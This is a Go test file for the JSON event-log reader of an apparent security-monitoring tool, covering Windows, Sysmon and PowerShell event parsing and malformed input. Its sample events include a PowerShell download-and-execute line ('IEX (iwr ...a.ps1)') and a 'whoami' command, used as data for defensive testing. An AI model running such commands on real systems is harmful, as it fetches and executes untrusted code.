package jsonl

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"os"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/riskhound/riskhound/internal/event"
)

func readAll(t *testing.T, text string, size int) ([]*event.Event, []event.Problem) {
	t.Helper()
	var evs []*event.Event
	var probs []event.Problem
	err := read(context.Background(), "test.json", strings.NewReader(text), size,
		func(e *event.Event) error { evs = append(evs, e); return nil },
		func(p event.Problem) { probs = append(probs, p) })
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	return evs, probs
}

func fixture(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

const absent = "<absent>"

// check compares the listed fields of e; absent means no such field.
func check(t *testing.T, label string, e *event.Event, want map[string]string) {
	t.Helper()
	for name, w := range want {
		got := e.Get(name)
		if w == absent {
			if !got.IsNull() {
				t.Errorf("%s: %s = %q, want no field", label, name, got)
			}
			continue
		}
		if got.String() != w {
			t.Errorf("%s: %s = %q, want %q", label, name, got.String(), w)
		}
	}
}

func TestFlat(t *testing.T) {
	evs, probs := readAll(t, fixture(t, "testdata/flat.jsonl"), chunkSize)
	var where []string
	for _, p := range probs {
		where = append(where, p.Where)
	}
	if got := strings.Join(where, ","); got != "line 3,line 5,line 7,line 9" {
		t.Errorf("problems at %s, want lines 3,5,7,9: %v", got, probs)
	}
	if len(evs) != 5 {
		t.Fatalf("%d events, want 5", len(evs))
	}
	tests := []map[string]string{
		{ // NXLog, Security
			"EventID": "1102", "EventCode": "1102", "Channel": "Security", "source": "XmlWinEventLog:Security",
			"sourcetype": "XmlWinEventLog", "index": "main", "host": "WKS1", "Computer": "WKS1", "Hostname": "WKS1",
			"_time": "1614834367.891", "Name": "Microsoft-Windows-Eventlog", "Guid": "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}",
			"Message": "The audit log was cleared.\r\nSubject:\r\n\tAccount Name:\tbob", "Task": "104",
		},
		{ // NXLog, Sysmon, with a collector "host" member
			"host": "WKS1.corp.local", "extracted_host": "collector.example", "Keywords": "-9223372036854775808", "ProcessID": "3172", "ExecutionProcessID": "3172",
			"UserID": "S-1-5-18", "user_id": "S-1-5-18", "EventRecordID": "42", "_time": "1614834369.5",
			"CommandLine": `cmd.exe /c "whoami" & echo <x>`, "EventType": absent, "tags": "[mordorDataset, sysmon]",
			"source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", "SeverityValue": "2",
		},
		{ // Winlogbeat
			"EventID": "4104", "EventCode": "4104", "Channel": "Microsoft-Windows-PowerShell/Operational",
			"source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational", "host": "wks2.corp.local", "Computer": "wks2.corp.local",
			"ScriptBlockText": "IEX (iwr 'http://x/a.ps1')", "MessageNumber": "1", "Path": absent, "winlog.event_data.Path": absent,
			"ProcessID": "4444", "ThreadID": "5555", "UserID": "S-1-5-21-1-2-3-1001", "user_id": "S-1-5-21-1-2-3-1001",
			"Name": "Microsoft-Windows-PowerShell", "EventRecordID": "777", "Message": "Creating Scriptblock text (1 of 1):",
			"winlog.keywords": "[Audit Success, Classic]", "Opcode": "On create calls", "host.name": "wks2.corp.local",
			"event.code": "4104", "_time": "1614834420",
		},
		{ // generic JSON
			"sourcetype": "_json", "source": "test.json", "host": absent, "extracted_source": "myapp", "_time": "1614834480", "user.name": "alice",
			"user.roles": "[admin, dev]", "count": "3", "ok": "true", "nothing": absent, "EventCode": absent,
		},
		{"_time": "1614834540.123", "k": "\u00e9\U0001F600\"q\"", "source": "test.json"},
	}
	for i, want := range tests {
		check(t, "event "+string(rune('0'+i)), evs[i], want)
	}
}

// TestRawIsObjectText checks _raw and that no field is empty or repeated.
func TestRawIsObjectText(t *testing.T) {
	for _, name := range []string{"testdata/flat.jsonl", "testdata/array.json", "../../inputs/testdata/equiv.json"} {
		evs, _ := readAll(t, fixture(t, name), chunkSize)
		for _, e := range evs {
			raw := e.Get(event.Raw).Text()
			var v map[string]any
			if err := json.Unmarshal([]byte(raw), &v); err != nil {
				t.Errorf("%s: _raw %.60q is not a JSON object: %v", name, raw, err)
			}
			seen := map[string]bool{}
			for _, f := range e.Fields {
				if seen[f.Name] {
					t.Errorf("%s: field %s repeated", name, f.Name)
				}
				seen[f.Name] = true
				if f.Value.Text() == "" {
					t.Errorf("%s: field %s is empty", name, f.Name)
				}
			}
		}
	}
}

func TestShapes(t *testing.T) {
	tests := []struct {
		in         string
		sourcetype string
	}{
		{`{"EventID":4624,"Channel":"Security"}`, "XmlWinEventLog"},
		{`{"EventID":4624,"SourceName":"Microsoft-Windows-Security-Auditing"}`, "_json"}, // no Channel: no XmlWinEventLog source
		{`{"Channel":"general","text":"hi"}`, "_json"},
		{`{"EventID":7,"kind":"game"}`, "_json"},
		{`{"winlog":{"channel":"Security","event_id":4624}}`, "XmlWinEventLog"},
		{`{"winlog":"x","EventID":1}`, "_json"},
		{`{"Event":{"System":{"Channel":"Security","EventID":4624}}}`, "XmlWinEventLog"},
		{`{"Event":{"Data":1}}`, "_json"},
	}
	for _, tc := range tests {
		evs, _ := readAll(t, tc.in, chunkSize)
		if len(evs) != 1 || evs[0].Get("sourcetype").Text() != tc.sourcetype {
			t.Errorf("%s: %d events, sourcetype %v, want %s", tc.in, len(evs), evs[0].Get("sourcetype"), tc.sourcetype)
		}
	}
}

func TestArray(t *testing.T) {
	evs, probs := readAll(t, fixture(t, "testdata/array.json"), chunkSize)
	if len(evs) != 2 || len(probs) != 0 {
		t.Fatalf("%d events, problems %v", len(evs), probs)
	}
	check(t, "first", evs[0], map[string]string{"TargetUserName": "bob", "EventCode": "4624", "host": "DC1"})
	check(t, "second", evs[1], map[string]string{"TargetUserName": "eve", "_time": "1609459201"})
}

func TestRendered(t *testing.T) {
	evs, probs := readAll(t, fixture(t, "../../inputs/testdata/equiv.json"), chunkSize)
	if len(evs) != 7 || len(probs) != 0 {
		t.Fatalf("%d events, problems %v", len(evs), probs)
	}
	check(t, "4104", evs[0], map[string]string{
		"EventCode": "4104", "EventID": "4104", "Name": "Microsoft-Windows-PowerShell", "ProcessID": "4444",
		"UserID": "S-1-5-21-1-2-3-1001", "user_id": "S-1-5-21-1-2-3-1001", "_time": "1715783842.123456",
		"Path": absent, "Message": "Creating Scriptblock text (1 of 1): IEX", "Culture": absent, "xmlns": absent,
		"source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational", "sourcetype": "XmlWinEventLog", "host": "ws01.corp.local",
	})
	check(t, "7036", evs[6], map[string]string{
		"Qualifiers": "16384", "EventCode": "7036", "Data": "[Windows Update, running]", "Threat_Name": "Trojan:Win32/Test", "Tag": "[a, b]",
	})
	check(t, "1102", evs[5], map[string]string{
		"SubjectUserName": "bob", "LogFileCleared": absent,
		"UserData_Xml": "<LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserSid>S-1-5-21-1-2-3-500</SubjectUserSid><SubjectUserName>bob</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x3e7</SubjectLogonId></LogFileCleared>",
	})
}

// TestChunkBoundaries reads each fixture with tiny chunks and expects the
// same events and problems as with one big chunk.
func TestChunkBoundaries(t *testing.T) {
	for _, name := range []string{"testdata/flat.jsonl", "testdata/array.json", "../../inputs/testdata/equiv.json"} {
		text := fixture(t, name)
		want, wantProbs := readAll(t, text, chunkSize)
		for _, size := range []int{1, 3, 10, 100, 999} {
			got, probs := readAll(t, text, size)
			if len(got) != len(want) || len(probs) != len(wantProbs) {
				t.Fatalf("%s size %d: %d events %d problems, want %d and %d", name, size, len(got), len(probs), len(want), len(wantProbs))
			}
			for i := range want {
				if g, w := fieldsText(got[i]), fieldsText(want[i]); g != w {
					t.Errorf("%s size %d: event %d differs:\n got %s\nwant %s", name, size, i, g, w)
				}
			}
			for i := range probs {
				if probs[i].Where != wantProbs[i].Where {
					t.Errorf("%s size %d: problem at %s, want %s", name, size, probs[i].Where, wantProbs[i].Where)
				}
			}
		}
	}
}

func fieldsText(e *event.Event) string {
	var b strings.Builder
	for _, f := range e.Fields {
		b.WriteString(f.Name + "=" + f.Value.String() + "\x00")
	}
	return b.String()
}

func TestMalformed(t *testing.T) {
	good := `{"EventID":1,"Channel":"C"}`
	tests := []struct {
		name   string
		in     string
		events int
		where  []string
	}{
		{"lines", good + "\n" + good + "\n", 2, nil},
		{"concatenated", good + good + " " + good, 3, nil},
		{"bad escape", `{"a":"\x"}` + "\n" + good, 1, []string{"line 1"}},
		{"cut in string", `{"a":"abc` + "\n" + good, 1, []string{"line 1"}},
		{"cut after value", `{"a":1` + "\n" + good, 1, []string{"line 1"}},
		{"cut in array", `{"a":[1,2` + "\n" + good, 1, []string{"line 1"}},
		{"trailing comma", `{"a":1,}` + "\n" + good, 1, []string{"line 1"}},
		{"bad number", `{"a":01.}` + "\n" + good, 1, []string{"line 1"}},
		{"pretty broken", "{\n  \"a\": 1\n  \"b\": 2\n}\n" + good, 1, []string{"line 1"}},
		{"scalars", "1 \"x\" true\n" + good, 1, []string{"line 1", "line 1", "line 1"}},
		{"BOM", "\uFEFF" + good, 1, nil},
		{"deep", strings.Repeat(`{"a":`, 600) + "1" + strings.Repeat("}", 600) + "\n" + good, 1, []string{"line 1"}},
		{"empty", "", 0, nil},
		{"blank", " \n\t\n", 0, nil},
		{"truncated", good + "\n" + `{"a": "b`, 1, []string{"line 2"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			for _, size := range []int{2, chunkSize} {
				evs, probs := readAll(t, tc.in, size)
				if len(evs) != tc.events {
					t.Errorf("size %d: %d events, want %d", size, len(evs), tc.events)
				}
				var where []string
				for _, p := range probs {
					where = append(where, p.Where)
				}
				if strings.Join(where, ",") != strings.Join(tc.where, ",") {
					t.Errorf("size %d: problems %v, want at %v", size, probs, tc.where)
				}
			}
		})
	}
}

// TestParserOracle compares decoded strings and structure with encoding/json.
func TestParserOracle(t *testing.T) {
	inputs := []string{
		`{"a":"\u00e9\t\n\\\/\"","b":[1,-2.5e3,true,false,null,{"c":{}}],"d":"\ud83d\ude00 \udc00"}`,
		`{"":"", "x y":"z", "n": 12345678901234567890}`,
	}
	for _, in := range inputs {
		var p parser
		p.reset(in)
		root, end, err := p.value(0, 0)
		if err != nil || end != len(in) {
			t.Fatalf("%s: err=%v end=%d", in, err, end)
		}
		var want any
		d := json.NewDecoder(strings.NewReader(in))
		d.UseNumber()
		if err := d.Decode(&want); err != nil {
			t.Fatal(err)
		}
		got := toAny(&p, root)
		gb, _ := json.Marshal(got)
		wb, _ := json.Marshal(want)
		if string(gb) != string(wb) {
			t.Errorf("%s:\n got %s\nwant %s", in, gb, wb)
		}
	}
}

func toAny(p *parser, i int32) any {
	n := p.nodes[i]
	switch n.kind {
	case kObj:
		m := map[string]any{}
		for c := n.first; c >= 0; c = p.nodes[c].next {
			m[p.nodes[c].key] = toAny(p, c)
		}
		return m
	case kArr:
		a := []any{}
		for c := n.first; c >= 0; c = p.nodes[c].next {
			a = append(a, toAny(p, c))
		}
		return a
	case kNum:
		return json.Number(n.text)
	case kBool:
		return n.text == "true"
	case kStr:
		return n.text
	}
	return nil
}

func TestEmitErrorStops(t *testing.T) {
	stop := errors.New("stop")
	n := 0
	err := Read(context.Background(), "x", strings.NewReader("{}\n{}\n{}"),
		func(*event.Event) error { n++; return stop }, func(event.Problem) {})
	if !errors.Is(err, stop) || n != 1 {
		t.Fatalf("err=%v after %d events, want stop after 1", err, n)
	}
}

// TestReadError checks that a failing source (such as a truncated gzip
// stream, which fails with io.ErrUnexpectedEOF) ends Read with that error,
// after the events before it.
func TestReadError(t *testing.T) {
	src := io.MultiReader(strings.NewReader(`{"EventID":1,"Channel":"C"}`+"\n"+`{"EventID":1,"Channel":"C"}`[:20]), iotest.ErrReader(io.ErrUnexpectedEOF))
	n := 0
	err := Read(context.Background(), "x", src, func(*event.Event) error { n++; return nil }, func(event.Problem) {})
	if n != 1 || !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("%d events, err %v; want 1 and io.ErrUnexpectedEOF", n, err)
	}
}

// A JSON rendering of a Linux Sysmon event gets the same source and
// sourcetype as its syslog XML form.
func TestLinuxSysmonRendering(t *testing.T) {
	evs, probs := readAll(t, `{"Event":{"System":{"EventID":1,"Channel":"Linux-Sysmon/Operational","Computer":"lnx-1"},"EventData":{"Image":"/usr/sbin/useradd"}}}`+"\n", 1<<16)
	if len(evs) != 1 || len(probs) != 0 {
		t.Fatalf("got %d events, problems %v", len(evs), probs)
	}
	if s, st := evs[0].Get("source").Text(), evs[0].Get("sourcetype").Text(); s != "Syslog:Linux-Sysmon/Operational" || st != "sysmon:linux" {
		t.Errorf("source, sourcetype = %q, %q", s, st)
	}
}
